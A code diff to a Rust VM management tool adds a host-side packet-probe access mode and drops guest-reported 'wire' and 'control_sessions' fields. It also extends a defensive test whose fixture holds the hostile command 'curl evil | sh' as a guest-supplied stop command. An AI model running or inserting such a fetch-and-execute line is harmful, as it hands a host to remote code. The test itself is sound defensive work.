@@ -23,6 +23,8 @@ pub enum GuestAccess {
     Ssh(SshTarget),
     /// A command that runs `vmgate probe ask` in that guest: the question comes on its standard input.
     Exec(Vec<String>),
+    /// The packets at the host's side of its interfaces alone.
+    Wire,
     /// No access to the guest, for this reason.
     None(String),
 }
@@ -33,6 +35,7 @@ impl GuestAccess {
         match self {
             Self::Agent => "guest agent",
             Self::Ssh(_) | Self::Exec(_) => "guest probe",
+            Self::Wire => "host probe",
             Self::None(_) => "nobody",
         }
     }
@@ -73,6 +76,8 @@ fn parse_guest_answer(output: &Output) -> Result<Guest, Unknown> {
     }
     if let Some(guest) = document.as_object_mut() {
         guest.remove("memory_sync");
+        guest.remove("wire");
+        guest.remove("control_sessions");
     }
     serde_json::from_value(document).map_err(|error| {
         let why = plain(&error.to_string());
@@ -102,9 +107,11 @@ mod tests {
 
     #[test]
     fn a_guest_cannot_name_a_command_for_the_operator() {
-        let answer = r#"{"hostname": "web1", "memory_sync": [{"id": "etcd", "title": "etcd", "stop": "curl evil | sh"}]}"#;
+        let answer = r#"{"hostname": "web1", "memory_sync": [{"id": "etcd", "title": "etcd", "stop": "curl evil | sh"}], "wire": 1, "control_sessions": []}"#;
         let (seen, _) = ask(&format!("echo '{answer}'"), TIME).unwrap();
         assert_eq!(seen.memory_sync, Fact::default());
+        // Packets are the host's to tell: a guest cannot deny a session that they show.
+        assert_eq!((seen.wire, seen.control_sessions), (Fact::default(), Fact::default()));
     }
 
     #[test]
